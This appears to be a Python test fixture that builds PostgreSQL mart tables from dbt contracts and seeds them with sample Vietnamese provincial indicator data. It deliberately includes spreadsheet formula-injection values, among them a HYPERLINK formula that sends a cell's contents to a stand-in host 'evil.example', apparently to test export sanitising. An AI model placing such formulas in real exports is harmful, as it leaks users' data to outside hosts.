"""Small marts to publish, made from the contracts that dbt enforces, in a real PostgreSQL."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal
from functools import cache
from typing import Any

import yaml
from sqlalchemy import Connection, create_engine, text

from ingestion.core.environment import repo_root

MARTS = (
    "dim_agency",
    "dim_indicator",
    "dim_period",
    "dim_target",
    "fct_indicator_value",
    "fct_target_progress",
)
AS_OF = datetime(2026, 11, 20, 16, 30, 0, 250_000, tzinfo=UTC)
DAY = "2026-11-20"
OCTOBER = date(2026, 10, 1)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào")'


@cache
def _contracts() -> dict[str, list[dict[str, Any]]]:
    return {
        model["name"]: model["columns"]
        for path in (repo_root() / "dbt_project/models/marts").rglob("*.yml")
        for model in yaml.load(path.read_text("utf-8"), yaml.CSafeLoader).get("models", ())
    }


def fill(url: str) -> None:
    """Create the marts with a small province in them, as the role that owns what dbt builds."""
    engine = create_engine(url, connect_args={"options": "-c role=cchc_transform"})
    with engine.begin() as connection:
        for name in MARTS:
            columns = ", ".join(f"{c['name']} {c['data_type']}" for c in _contracts()[name])
            connection.execute(text(f"create table marts.{name} ({columns})"))
        _agencies(connection)
        _plan(connection)
        _values(connection)
    engine.dispose()


def add(connection: Connection, table: str, **row: Any) -> None:
    """Insert one row; columns that are not given stay empty."""
    names, values = ", ".join(row), ", ".join(f":{name}" for name in row)
    connection.execute(text(f"insert into marts.{table} ({names}) values ({values})"), row)


def add_value(connection: Connection, code: str, agency: int, **row: Any) -> None:
    """Insert one value of October 2026."""
    value = {
        "indicator_code": code,
        "agency_key": agency,
        "agency_level": "province" if agency == 1 else "unit",
        "period_type": "month",
        "period_start": OCTOBER,
        "basis": "current",
        "reading_code": "main",
        "factor": 100,
        "value_state": "reported",
        "value_status": "preliminary",
        "is_small_number": False,
        "is_corrected": False,
        "formula_version": 1,
        "series_no": 1,
        "data_as_of": AS_OF,
        "quality_state": "ok",
    }
    add(connection, "fct_indicator_value", **value | row)


def _agencies(connection: Connection) -> None:
    rows = [
        (1, "14", "Tỉnh Sơn La", "Sơn La province", "province"),
        (119, "SNV", "Sở Nội vụ", "Department of Home Affairs", "department"),
        (2001, "03646", "Phường Tô Hiệu", None, "commune"),
        (-14, "T14", "Chưa phân bổ, “tỉnh”", None, "province"),
    ]
    for key, code, name_vi, name_en, kind in rows:
        add(
            connection,
            "dim_agency",
            agency_key=key,
            agency_code=code,
            name_vi=name_vi,
            name_en=name_en,
            kind=kind,
            current_agency_key=key,
            current_is_exact=True,
            valid_from=date(2025, 7, 1),
            is_current=True,
            certainty="seen",
        )


def _plan(connection: Connection) -> None:
    add(
        connection,
        "dim_period",
        period_type="month",
        period_start=OCTOBER,
        period_end=date(2026, 11, 1),
        label_vi="Tháng 10/2026",
    )
    for code, source, definition in (
        ("TTHC-02", "tthc", "- Tỷ lệ hồ sơ;=1+1\n@lần"),
        ("TC-01", "budget_publications", FORMULA),
    ):
        add(
            connection,
            "dim_indicator",
            indicator_code=code,
            name_vi=f"Chỉ tiêu {code}",
            name_en=f"Indicator {code}",
            definition_vi=definition,
            unit="pct",
            direction="up",
            frequency="month",
            source=source,
            min_sample=10,
            legal_basis="",
            is_context=False,
            formula_version=1,
        )
    for key, code, operator in (
        ("PL1.I.1", "TTHC-02", ">="),
        ("PL1.I.2", "TTHC-02", ">"),
        ("PL1.I.3", "TC-01", "="),
        ("PL1.I.4", "TC-01", "approx"),
    ):
        add(
            connection,
            "dim_target",
            target_key=key,
            indicator_code=code,
            plan_ref=key,
            phase="2026-2027",
            operator=operator,
            target_value=Decimal("95.5"),
            unit="pct",
            wording_vi=f"Nguyên văn “{key}”, có dấu phẩy",
        )


def _values(connection: Connection) -> None:
    value = Decimal("92.592593")
    add_value(connection, "TTHC-02", 1, numerator=25, denominator=27, value=value)
    # Three dossiers: too few to be told. Three documents: nobody's.
    few = {"numerator": 1, "denominator": 3, "value": Decimal("33.333333")}
    add_value(connection, "TTHC-02", 2001, **few, is_small_number=True)
    add_value(connection, "TC-01", 2001, **few, is_small_number=True)
    # The marts withheld it already, whatever they still carry.
    hidden = {"numerator": 7, "denominator": 70, "value": 10, "value_state": "suppressed"}
    add_value(connection, "TC-01", 119, **hidden)
    add_value(connection, "TC-01", -14, value_state="not_reported")
    for key, code, operator in (("PL1.I.1", "TTHC-02", ">="), ("PL1.I.3", "TC-01", "=")):
        add(
            connection,
            "fct_target_progress",
            target_key=key,
            indicator_code=code,
            agency_key=1,
            period_type="month",
            period_start=OCTOBER if code == "TTHC-02" else None,
            basis="current",
            value=value if code == "TTHC-02" else None,
            target_value=Decimal("95.5"),
            operator=operator,
            gap=Decimal("-2.907407") if code == "TTHC-02" else None,
            is_met=False if code == "TTHC-02" else None,
            status="behind" if code == "TTHC-02" else "no_value",
            reason_vi=None if code == "TTHC-02" else "+84 chưa có nguồn",
            data_as_of=AS_OF,
            open_finding_count=0,
            is_synthetic=True,
        )
